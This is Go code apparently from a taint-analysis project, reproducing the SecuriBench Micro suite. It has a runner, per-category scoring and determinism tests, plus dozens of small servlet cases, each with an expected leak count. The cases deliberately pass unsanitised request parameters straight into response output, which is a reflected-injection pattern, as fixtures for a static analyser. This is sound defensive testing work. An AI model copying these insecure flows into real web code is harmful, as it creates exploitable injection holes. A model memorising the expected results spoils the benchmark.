	"Aliasing", "Arrays", "Basic", "Collections", "Datastructure",
	"Factory", "Inter", "Session", "StrongUpdates",
}

// Config is the engine configuration used for the suite: the paper's
// defaults plus the servlet session wrapper rules.
func Config() taint.Config {
	conf := taint.DefaultConfig()
	extra, err := taint.ParseWrapper(extraWrapperRules)
	if err != nil {
		panic("securibench: bad wrapper rules: " + err.Error())
	}
	conf.Wrapper = taint.MergeWrappers(conf.Wrapper, extra)
	return conf
}

// Program builds the case's linked program (servlet stubs plus the
// case source), exactly as Run analyzes it — the hook external
// verification tooling (cmd/irlint, the fixture-cleanliness tests)
// lints the suite through.
func Program(c Case) (*ir.Program, error) {
	prog, err := core.ParseJava(servletStubs+c.Source, c.Name+".ir")
	if err != nil {
		return nil, fmt.Errorf("securibench %s: %w", c.Name, err)
	}
	return prog, nil
}

// Rules returns the suite's source/sink rule text.
func Rules() string { return rules }

// Run analyzes one case and returns the number of distinct leaks found.
// A panic anywhere in the pipeline is recovered into the case's error.
func Run(c Case) (found int, err error) {
	defer func() {
		if r := recover(); r != nil {
			found, err = 0, fmt.Errorf("securibench %s: panic: %v", c.Name, r)
		}
	}()
	prog, err := Program(c)
	if err != nil {
		return 0, err
	}
	var entries []*ir.Method
	for _, cls := range prog.Classes() {
		if m := cls.Method("doGet", 2); m != nil && !m.Abstract() {
			entries = append(entries, m)
		}
	}
	if len(entries) == 0 {
		return 0, fmt.Errorf("securibench %s: no doGet entry points", c.Name)
	}
	res, err := core.AnalyzeJava(context.Background(), prog, rules, Config(), entries...)
	if err != nil {
		return 0, err
	}
	return len(res.DistinctSourceSinkPairs()), nil
}

// CategoryResult aggregates Table 2's per-category row.
type CategoryResult struct {
	Category string
	TP       int
	Expected int
	FP       int
	// Errors counts cases in this category that failed to analyze; the
	// suite keeps going and scores them as finding nothing.
	Errors int
}

// RunSuite analyzes every case and aggregates per category.
func RunSuite() ([]CategoryResult, error) {
	agg := map[string]*CategoryResult{}
	for _, cat := range CategoryOrder {
		agg[cat] = &CategoryResult{Category: cat}
	}
	for _, c := range Cases() {
		found, err := Run(c)
		r := agg[c.Category]
		if err != nil {
			// Per-case isolation: a failing case scores zero findings
			// instead of aborting the suite.
			r.Errors++
			found = 0
		}
		r.Expected += c.ExpectedLeaks
		r.TP += min(found, c.ExpectedLeaks)
		r.FP += max(0, found-c.ExpectedLeaks)
	}
	out := make([]CategoryResult, 0, len(CategoryOrder))
	for _, cat := range CategoryOrder {
		out = append(out, *agg[cat])
	}
	return out, nil
}

// RenderTable prints Table 2.
func RenderTable(results []CategoryResult) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "%-18s %8s %4s\n", "Test-case group", "TP", "FP")
	totTP, totExp, totFP := 0, 0, 0
	for _, r := range results {
		fmt.Fprintf(&sb, "%-18s %4d/%-4d %4d\n", r.Category, r.TP, r.Expected, r.FP)
		totTP += r.TP
		totExp += r.Expected
		totFP += r.FP
	}
	fmt.Fprintf(&sb, "%-18s %8s %4s\n", "Pred", "n/a", "n/a")
	fmt.Fprintf(&sb, "%-18s %8s %4s\n", "Reflection", "n/a", "n/a")
	fmt.Fprintf(&sb, "%-18s %8s %4s\n", "Sanitizer", "n/a", "n/a")
	fmt.Fprintf(&sb, "%-18s %4d/%-4d %4d\n", "Sum", totTP, totExp, totFP)
	errs := 0
	for _, r := range results {
		errs += r.Errors
	}
	if errs > 0 {
		fmt.Fprintf(&sb, "%d case(s) failed to analyze and scored zero findings\n", errs)
	}
	if totExp > 0 {
		fmt.Fprintf(&sb, "Recall %.0f%% with %d false positives\n",
			100*float64(totTP)/float64(totExp), totFP)
	}
	return sb.String()
}

// doGet wraps a body into a servlet class named sb.<name> with the
// standard prologue locals pw (the response writer).
func doGet(name, body string) string {
	return fmt.Sprintf(`
class sb.%s extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
%s
  }
}
`, name, body)
}
