package securibench

// The remaining Table 2 categories: Aliasing (11 leaks, all found),
// Arrays (9 leaks found, 6 false positives from the conservative array
// model), Collections (14 found, 3 false positives from whole-collection
// tainting), Datastructure (5), Factory (3), Inter (14 of 16; the two
// environment round-trips are missed), Session (3) and StrongUpdates
// (nothing to find, nothing reported).

func reg(name, cat string, expected, finds int, note, src string) {
	register(Case{
		Name: name, Category: cat,
		ExpectedLeaks: expected, FlowDroidFinds: finds,
		Note: note, Source: src,
	})
}

func init() {
	// ------------------------------------------------------------ Aliasing
	reg("Aliasing1", "Aliasing", 1, 1, "two locals referencing one object",
		`
class sb.Cell {
  field v: java.lang.String
  method init(): void {
    return
  }
}
class sb.Aliasing1 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    a = new sb.Cell()
    bb = a
    a.v = s
    t = bb.v
    pw.println(t)
  }
}`)

	reg("Aliasing2", "Aliasing", 2, 2, "an alias chain of three references",
		`
class sb.Cell2 {
  field v: java.lang.String
  method init(): void {
    return
  }
}
class sb.Aliasing2 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    a = new sb.Cell2()
    bb = a
    c = bb
    a.v = s
    t1 = bb.v
    pw.println(t1)
    t2 = c.v
    pw.println(t2)
  }
}`)

	reg("Aliasing3", "Aliasing", 2, 2,
		"the alias is established inside a callee (the paper's Listing 2 shape)",
		`
class sb.Cell3 {
  field v: java.lang.String
  method init(): void {
    return
  }
}
class sb.Aliasing3 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    p = new sb.Cell3()
    this.taintIt(pw, s, p)
    t = p.v
    pw.println(t)
  }
  method taintIt(pw: java.io.PrintWriter, in: java.lang.String, out: sb.Cell3): void {
    x = out
    x.v = in
    u = out.v
    pw.println(u)
  }
}`)

	reg("Aliasing4", "Aliasing", 2, 2, "aliased inner objects shared by two containers",
		`
class sb.Inner4 {
  field data: java.lang.String
  method init(): void {
    return
  }
}
class sb.Outer4 {
  field inner: sb.Inner4
  method init(): void {
    return
  }
}
class sb.Aliasing4 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    shared = new sb.Inner4()
    o1 = new sb.Outer4()
    o2 = new sb.Outer4()
    o1.inner = shared
    o2.inner = shared
    i1 = o1.inner
    i1.data = s
    i2 = o2.inner
    t = i2.data
    pw.println(t)
    u = shared.data
    pw.println(u)
  }
}`)

	reg("Aliasing5", "Aliasing", 2, 2, "alias obtained from a getter return",
		`
class sb.Cell5 {
  field v: java.lang.String
  method init(): void {
    return
  }
  method self(): sb.Cell5 {
    return this
  }
}
class sb.Aliasing5 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    a = new sb.Cell5()
    bb = a.self()
    a.v = s
    t1 = bb.v
    pw.println(t1)
    t2 = a.v
    pw.println(t2)
  }
}`)

	reg("Aliasing6", "Aliasing", 2, 2, "alias through a static field",
		`
class sb.Cell6 {
  field v: java.lang.String
  method init(): void {
    return
  }
}
class sb.Aliasing6 extends javax.servlet.http.HttpServlet {
  static field shared: sb.Cell6
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    a = new sb.Cell6()
    sb.Aliasing6.shared = a
    a.v = s
    other = sb.Aliasing6.shared
    t1 = other.v
    pw.println(t1)
    t2 = a.v
    pw.println(t2)
  }
}`)

	// -------------------------------------------------------------- Arrays
	reg("Arrays1", "Arrays", 2, 2, "store and read back through an array",
		doGet("Arrays1", `
    s = req.getParameter("name")
    arr = newarray java.lang.String
    arr[0] = s
    t = arr[0]
    pw.println(t)
    u = arr[1]
    pw.println(u)`))

	reg("Arrays2", "Arrays", 2, 2, "array passed to a helper and leaked twice",
		`
class sb.Arrays2 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    arr = newarray java.lang.String
    arr[0] = s
    this.leakFrom(pw, arr)
    t = arr[0]
    pw.println(t)
  }
  method leakFrom(pw: java.io.PrintWriter, a: java.lang.String[]): void {
    x = a[0]
    pw.println(x)
  }
}`)

	reg("Arrays3", "Arrays", 2, 2, "array stored in an object field",
		`
class sb.ArrBox {
  field items: java.lang.String[]
  method init(): void {
    return
  }
}
class sb.Arrays3 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    arr = newarray java.lang.String
    arr[0] = s
    box = new sb.ArrBox()
    box.items = arr
    got = box.items
    t = got[0]
    pw.println(t)
    u = got[1]
    pw.println(u)
  }
}`)

	reg("Arrays4", "Arrays", 2, 2, "two locals aliasing one array",
		doGet("Arrays4", `
    s = req.getParameter("name")
    a = newarray java.lang.String
    bb = a
    a[0] = s
    t1 = bb[0]
    pw.println(t1)
    t2 = a[0]
    pw.println(t2)`))

	reg("Arrays5", "Arrays", 1, 1, "element copied to a local before the leak",
		doGet("Arrays5", `
    s = req.getParameter("name")
    arr = newarray java.lang.String
    arr[2] = s
    e = arr[2]
    f = e + "!"
    pw.println(f)`))

	reg("ArraysFP1", "Arrays", 0, 2,
		"taint at index 1, indices 0 and 2 leaked: two false positives from "+
			"whole-array tainting",
		doGet("ArraysFP1", `
    s = req.getParameter("name")
    arr = newarray java.lang.String
    arr[0] = "zero"
    arr[1] = s
    arr[2] = "two"
    t = arr[0]
    pw.println(t)
    u = arr[2]
    pw.println(u)`))

	reg("ArraysFP2", "Arrays", 0, 2,
		"tainted array fully overwritten with constants before both reads",
		doGet("ArraysFP2", `
    s = req.getParameter("name")
    arr = newarray java.lang.String
    arr[0] = s
    arr[0] = "cleared"
    t = arr[0]
    pw.println(t)
    u = arr[0]
    pw.print(u)`))

	reg("ArraysFP3", "Arrays", 0, 2,
		"separate halves: taint written into one array, a second clean "+
			"array read — but the arrays were merged through a helper",
		`
class sb.ArraysFP3 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    a = newarray java.lang.String
    bb = newarray java.lang.String
    local chosen: java.lang.String[]
    if * goto two
    chosen = a
    goto store
  two:
    chosen = bb
  store:
    chosen[0] = s
    t = bb[1]
    pw.println(t)
    u = a[1]
    pw.println(u)
  }
}`)

	// --------------------------------------------------------- Collections
	reg("Collections1", "Collections", 2, 2, "list add/get, leaked twice",
		doGet("Collections1", `
    s = req.getParameter("name")
    lst = new java.util.ArrayList()
    lst.add(s)
    o = lst.get(0)
    local t: java.lang.String
    t = (java.lang.String) o
    pw.println(t)
    pw.print(t)`))

	reg("Collections2", "Collections", 2, 2, "map put/get round trip",
		doGet("Collections2", `
    s = req.getParameter("name")
    m = new java.util.HashMap()
    k = "key"
    m.put(k, s)
    o = m.get(k)
    local t: java.lang.String
    t = (java.lang.String) o
    pw.println(t)
    u = t.trim()
    pw.println(u)`))

	reg("Collections3", "Collections", 2, 2, "iteration over a tainted list",
		doGet("Collections3", `
    s = req.getParameter("name")
    lst = new java.util.LinkedList()
    lst.add(s)
    it = lst.iterator()
  loop:
    if * goto done
    o = it.next()
    local t: java.lang.String
    t = (java.lang.String) o
    pw.println(t)
    pw.print(t)
    goto loop
  done:
    nop`))

	reg("Collections4", "Collections", 2, 2, "set membership does not launder taint",
		doGet("Collections4", `
    s = req.getParameter("name")
    st = new java.util.HashSet()
    st.add(s)
    it = st.iterator()
    o = it.next()
    local t: java.lang.String
    t = (java.lang.String) o
    pw.println(t)
    pw.print(t)`))

	reg("Collections5", "Collections", 2, 2, "legacy Vector API",
		doGet("Collections5", `
    s = req.getParameter("name")
    v = new java.util.Vector()
    v.addElement(s)
    o = v.elementAt(0)
    local t: java.lang.String
    t = (java.lang.String) o
    pw.println(t)
    pw.print(t)`))

	reg("Collections6", "Collections", 2, 2, "Hashtable with enumeration",
		doGet("Collections6", `
    s = req.getParameter("name")
    h = new java.util.Hashtable()
    k = "key"
    h.put(k, s)
    en = h.elements()
    o = en.next()
    local t: java.lang.String
    t = (java.lang.String) o
    pw.println(t)
    pw.print(t)`))

	reg("Collections7", "Collections", 2, 2, "collection passed across methods",
		`
class sb.Collections7 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    lst = new java.util.ArrayList()
    this.fill(lst, s)
    o = lst.get(0)
    local t: java.lang.String
    t = (java.lang.String) o
    pw.println(t)
    pw.print(t)
  }
  method fill(l: java.util.ArrayList, x: java.lang.String): void {
    l.add(x)
  }
}`)

	reg("CollectionsFP1", "Collections", 0, 1,
		"taint under one map key, a different key read: whole-map tainting "+
			"reports a false positive",
		doGet("CollectionsFP1", `
    s = req.getParameter("name")
    m = new java.util.HashMap()
    k1 = "secret"
    k2 = "public"
    m.put(k1, s)
    clean = "ok"
    m.put(k2, clean)
    o = m.get(k2)
    local t: java.lang.String
    t = (java.lang.String) o
    pw.println(t)`))

	reg("CollectionsFP2", "Collections", 0, 1,
		"the list is cleared before the read; clear() is not a kill in the "+
			"shortcut model",
		doGet("CollectionsFP2", `
    s = req.getParameter("name")
    lst = new java.util.ArrayList()
    lst.add(s)
    lst.clear()
    clean = "fresh"
    lst.add(clean)
    o = lst.get(0)
    local t: java.lang.String
    t = (java.lang.String) o
    pw.println(t)`))

	reg("CollectionsFP3", "Collections", 0, 1,
		"the tainted element is removed before the read",
		doGet("CollectionsFP3", `
    s = req.getParameter("name")
    lst = new java.util.LinkedList()
    clean = "zero"
    lst.add(clean)
    lst.add(s)
    dropped = lst.remove(1)
    o = lst.get(0)
    local t: java.lang.String
    t = (java.lang.String) o
    pw.println(t)`))

	// ------------------------------------------------------- Datastructure
	reg("Datastructure1", "Datastructure", 2, 2, "hand-rolled linked list",
		`
class sb.Node {
  field value: java.lang.String
  field next: sb.Node
  method init(): void {
    return
  }
}
class sb.Datastructure1 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    head = new sb.Node()
    second = new sb.Node()
    head.next = second
    second.value = s
    n = head.next
    t = n.value
    pw.println(t)
    u = second.value
    pw.print(u)
  }
}`)

	reg("Datastructure2", "Datastructure", 2, 2, "hand-rolled stack",
		`
class sb.Stack2 {
  field top: java.lang.String
  method init(): void {
    return
  }
  method push(x: java.lang.String): void {
    this.top = x
  }
  method pop(): java.lang.String {
    r = this.top
    return r
  }
}
class sb.Datastructure2 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    st = new sb.Stack2()
    st.push(s)
    t = st.pop()
    pw.println(t)
    u = st.pop()
    pw.print(u)
  }
}`)

	reg("Datastructure3", "Datastructure", 1, 1, "pair type, tainted half leaked",
		`
class sb.Pair3 {
  field first: java.lang.String
  field second: java.lang.String
  method init(a: java.lang.String, bb: java.lang.String): void {
    this.first = a
    this.second = bb
  }
}
class sb.Datastructure3 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    k = "const"
    p = new sb.Pair3(k, s)
    t = p.second
    pw.println(t)
    u = p.first
    pw.print(u)
  }
}`)

	// -------------------------------------------------------------- Factory
	reg("Factory1", "Factory", 1, 1, "object produced by a static factory",
		`
class sb.Product1 {
  field payload: java.lang.String
  method init(): void {
    return
  }
}
class sb.Factory1 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    p = sb.Factory1.make(s)
    t = p.payload
    pw.println(t)
  }
  static method make(x: java.lang.String): sb.Product1 {
    p = new sb.Product1()
    p.payload = x
    return p
  }
}`)

	reg("Factory2", "Factory", 1, 1, "factory chooses one of two classes",
		`
class sb.Base2 {
  field data: java.lang.String
  method init(): void {
    return
  }
}
class sb.Sub2 extends sb.Base2 {
  method init(): void {
    return
  }
}
class sb.Factory2 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    p = sb.Factory2.make()
    p.data = s
    q = p.data
    pw.println(q)
  }
  static method make(): sb.Base2 {
    local r: sb.Base2
    if * goto sub
    r = new sb.Base2()
    return r
  sub:
    r = new sb.Sub2()
    return r
  }
}`)

	reg("Factory3", "Factory", 1, 1, "factory behind an interface",
		`
interface sb.Maker3 {
  method make(x: java.lang.String): java.lang.String;
}
class sb.EchoMaker3 implements sb.Maker3 {
  method init(): void {
    return
  }
  method make(x: java.lang.String): java.lang.String {
    return x
  }
}
class sb.Factory3 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    local mk: sb.Maker3
    mk = new sb.EchoMaker3()
    t = mk.make(s)
    pw.println(t)
  }
}`)

	// ---------------------------------------------------------------- Inter
	reg("Inter1", "Inter", 2, 2, "leak in the callee and after the return",
		`
class sb.Inter1 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    t = this.relay(pw, s)
    pw.println(t)
  }
  method relay(pw: java.io.PrintWriter, x: java.lang.String): java.lang.String {
    pw.print(x)
    r = x + "."
    return r
  }
}`)

	reg("Inter2", "Inter", 2, 2, "two-level call chain, two sinks",
		`
class sb.Inter2 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    a = this.one(s)
    pw.println(a)
    bb = this.two(s)
    pw.println(bb)
  }
  method one(x: java.lang.String): java.lang.String {
    r = this.two(x)
    return r
  }
  method two(x: java.lang.String): java.lang.String {
    r = "2" + x
    return r
  }
}`)

	reg("Inter3", "Inter", 2, 2, "taint carried inside a passed object",
		`
class sb.Packet3 {
  field body: java.lang.String
  method init(): void {
    return
  }
}
class sb.Inter3 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    p = new sb.Packet3()
    p.body = s
    this.deliver(pw, p)
    t = p.body
    pw.println(t)
  }
  method deliver(pw: java.io.PrintWriter, p: sb.Packet3): void {
    x = p.body
    pw.print(x)
  }
}`)

	reg("Inter4", "Inter", 2, 2, "static utility methods",
		`
class sb.Util4 {
  static method wrapA(x: java.lang.String): java.lang.String {
    r = "<" + x
    return r
  }
  static method wrapB(x: java.lang.String): java.lang.String {
    r = x + ">"
    return r
  }
}
class sb.Inter4 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    a = sb.Util4.wrapA(s)
    pw.println(a)
    bb = sb.Util4.wrapB(s)
    pw.println(bb)
  }
}`)

	reg("Inter5", "Inter", 2, 2, "one helper writes a field, another reads it",
		`
class sb.Inter5 extends javax.servlet.http.HttpServlet {
  field channel: java.lang.String
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    this.produce(s)
    this.consume(pw)
    t = this.channel
    pw.println(t)
  }
  method produce(x: java.lang.String): void {
    this.channel = x
  }
  method consume(pw: java.io.PrintWriter): void {
    t = this.channel
    pw.print(t)
  }
}`)

	reg("Inter6", "Inter", 2, 2, "recursion carries the taint to two sinks",
		`
class sb.Inter6 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    t = this.spin(s, 4)
    pw.println(t)
    pw.print(t)
  }
  method spin(x: java.lang.String, n: int): java.lang.String {
    if * goto stop
    m = n - 1
    r = this.spin(x, m)
    return r
  stop:
    return x
  }
}`)

	reg("Inter7", "Inter", 2, 2, "virtual dispatch between helper classes",
		`
interface sb.Stage7 {
  method process(x: java.lang.String): java.lang.String;
}
class sb.Upper7 implements sb.Stage7 {
  method init(): void {
    return
  }
  method process(x: java.lang.String): java.lang.String {
    r = x.toUpperCase()
    return r
  }
}
class sb.Lower7 implements sb.Stage7 {
  method init(): void {
    return
  }
  method process(x: java.lang.String): java.lang.String {
    r = x.toLowerCase()
    return r
  }
}
class sb.Inter7 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    local st: sb.Stage7
    if * goto low
    st = new sb.Upper7()
    goto run
  low:
    st = new sb.Lower7()
  run:
    t = st.process(s)
    pw.println(t)
    u = t + "|"
    pw.print(u)
  }
}`)

	reg("InterMiss1", "Inter", 1, 0,
		"the taint round-trips through the file system between two "+
			"servlets; no static analysis in the comparison tracks "+
			"environment round-trips, so this is a (shared) miss",
		`
class sb.InterMiss1Writer extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    f = new java.io.FileOutputStream("spool.txt")
    f.write(s)
  }
}
class sb.InterMiss1Reader extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    local src: java.lang.Object
    src = new java.lang.Object
    rd = new java.io.BufferedReader(src)
    line = rd.readLine()
    pw.println(line)
  }
}`)

	reg("InterMiss2", "Inter", 1, 0,
		"single servlet writing and re-reading the file system",
		`
class sb.InterMiss2 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    f = new java.io.FileOutputStream("tmp.txt")
    f.write(s)
    local src: java.lang.Object
    src = new java.lang.Object
    rd = new java.io.BufferedReader(src)
    back = rd.readLine()
    pw.println(back)
  }
}`)

	// -------------------------------------------------------------- Session
	reg("Session1", "Session", 2, 2, "session attribute round trip, two sinks",
		doGet("Session1", `
    s = req.getParameter("name")
    sess = req.getSession()
    sess.setAttribute("k", s)
    o = sess.getAttribute("k")
    local t: java.lang.String
    t = (java.lang.String) o
    pw.println(t)
    pw.print(t)`))

	reg("Session2", "Session", 1, 1, "attribute stored via an Object handle",
		doGet("Session2", `
    s = req.getParameter("name")
    local o: java.lang.Object
    o = (java.lang.Object) s
    sess = req.getSession()
    sess.setAttribute("data", o)
    back = sess.getAttribute("data")
    local t: java.lang.String
    t = (java.lang.String) back
    pw.println(t)`))

	// -------------------------------------------------------- StrongUpdates
	reg("StrongUpdates1", "StrongUpdates", 0, 0,
		"the tainted local is overwritten before the sink",
		doGet("StrongUpdates1", `
    s = req.getParameter("name")
    s = "overwritten"
    pw.println(s)`))

	reg("StrongUpdates2", "StrongUpdates", 0, 0,
		"null-ed out before the sink",
		doGet("StrongUpdates2", `
    s = req.getParameter("name")
    s = null
    t = "safe" + s
    pw.println(t)`))

	reg("StrongUpdates3", "StrongUpdates", 0, 0,
		"replaced by a clean helper result",
		`
class sb.StrongUpdates3 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    s = this.cleanse()
    pw.println(s)
  }
  method cleanse(): java.lang.String {
    r = "laundered"
    return r
  }
}`)
}
