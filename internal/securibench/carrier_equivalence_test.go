package securibench

import (
	"bytes"
	"context"
	"fmt"
	"testing"

	"flowdroid/internal/core"
	"flowdroid/internal/ir"
)

// TestStringCarrierEquivalence: every SecuriBench case must produce a
// byte-identical canonical leak report with the string-carrier fast path
// on and off, at worker counts 1, 2 and 8.
func TestStringCarrierEquivalence(t *testing.T) {
	for _, c := range Cases() {
		c := c
		t.Run(c.Name, func(t *testing.T) {
			var base []byte
			var baseMode string
			for _, carriers := range []bool{true, false} {
				for _, w := range []int{1, 2, 8} {
					prog, err := core.ParseJava(servletStubs+c.Source, c.Name+".ir")
					if err != nil {
						t.Fatal(err)
					}
					var entries []*ir.Method
					for _, cls := range prog.Classes() {
						if m := cls.Method("doGet", 2); m != nil && !m.Abstract() {
							entries = append(entries, m)
						}
					}
					conf := Config()
					conf.Workers = w
					conf.StringCarriers = carriers
					res, err := core.AnalyzeJava(context.Background(), prog, rules, conf, entries...)
					if err != nil {
						t.Fatalf("carriers=%v workers=%d: %v", carriers, w, err)
					}
					js, err := res.CanonicalJSON()
					if err != nil {
						t.Fatal(err)
					}
					if base == nil {
						base, baseMode = js, fmt.Sprintf("carriers=%v workers=%d", carriers, w)
						continue
					}
					if !bytes.Equal(base, js) {
						t.Errorf("carriers=%v workers=%d report differs from %s:\n%s\nvs\n%s",
							carriers, w, baseMode, base, js)
					}
				}
			}
		})
	}
}
