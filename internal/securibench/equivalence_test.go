package securibench

import (
	"bytes"
	"context"
	"testing"

	"flowdroid/internal/core"
	"flowdroid/internal/ir"
)

// TestWorkerCountEquivalence: every SecuriBench case must produce a
// byte-identical canonical leak report with the sequential and the
// 8-worker taint solver.
func TestWorkerCountEquivalence(t *testing.T) {
	for _, c := range Cases() {
		c := c
		t.Run(c.Name, func(t *testing.T) {
			var base []byte
			for _, w := range []int{1, 8} {
				prog, err := core.ParseJava(servletStubs+c.Source, c.Name+".ir")
				if err != nil {
					t.Fatal(err)
				}
				var entries []*ir.Method
				for _, cls := range prog.Classes() {
					if m := cls.Method("doGet", 2); m != nil && !m.Abstract() {
						entries = append(entries, m)
					}
				}
				conf := Config()
				conf.Workers = w
				res, err := core.AnalyzeJava(context.Background(), prog, rules, conf, entries...)
				if err != nil {
					t.Fatalf("workers=%d: %v", w, err)
				}
				js, err := res.CanonicalJSON()
				if err != nil {
					t.Fatal(err)
				}
				if w == 1 {
					base = js
					continue
				}
				if !bytes.Equal(base, js) {
					t.Errorf("workers=%d report differs from workers=1:\n%s\nvs\n%s", w, base, js)
				}
			}
		})
	}
}
