package securibench

// The Basic category: elementary flows through locals, fields, strings
// and simple helpers. 60 expected leaks; FlowDroid finds 58 — the two
// static-initializer cases are missed because clinit is assumed to run
// at program start.

func basic(name string, expected, finds int, note, src string) {
	register(Case{
		Name: name, Category: "Basic",
		ExpectedLeaks: expected, FlowDroidFinds: finds,
		Note: note, Source: src,
	})
}

func init() {
	basic("Basic1", 1, 1, "direct parameter-to-response flow",
		doGet("Basic1", `
    s = req.getParameter("name")
    pw.println(s)`))

	basic("Basic2", 1, 1, "flow through copies and concatenation",
		doGet("Basic2", `
    s = req.getParameter("name")
    t = s
    u = "Hello " + t
    pw.println(u)`))

	basic("Basic3", 1, 1, "flow through a StringBuilder",
		doGet("Basic3", `
    s = req.getParameter("name")
    sb = new java.lang.StringBuilder()
    sb.append("pre")
    sb.append(s)
    out = sb.toString()
    pw.println(out)`))

	basic("Basic4", 1, 1, "flow through an instance field of the servlet",
		`
class sb.Basic4 extends javax.servlet.http.HttpServlet {
  field stored: java.lang.String
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    this.stored = s
    t = this.stored
    pw.println(t)
  }
}`)

	basic("Basic5", 1, 1, "flow through a static field",
		`
class sb.Basic5 extends javax.servlet.http.HttpServlet {
  static field cache: java.lang.String
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    sb.Basic5.cache = s
    t = sb.Basic5.cache
    pw.println(t)
  }
}`)

	basic("Basic6", 2, 2, "two independent parameters each leaked",
		doGet("Basic6", `
    s1 = req.getParameter("a")
    s2 = req.getParameter("b")
    pw.println(s1)
    pw.println(s2)`))

	basic("Basic7", 3, 3, "one source reaching three sinks",
		doGet("Basic7", `
    s = req.getParameter("name")
    pw.println(s)
    t = s + "!"
    pw.println(t)
    pw.print(s)`))

	basic("Basic8", 2, 2, "both branches of a conditional leak",
		doGet("Basic8", `
    s = req.getParameter("name")
    if * goto other
    a = s + "-left"
    pw.println(a)
    goto done
  other:
    bb = s + "-right"
    pw.println(bb)
  done:
    nop`))

	basic("Basic9", 1, 1, "taint built up inside a loop",
		doGet("Basic9", `
    s = req.getParameter("name")
    acc = ""
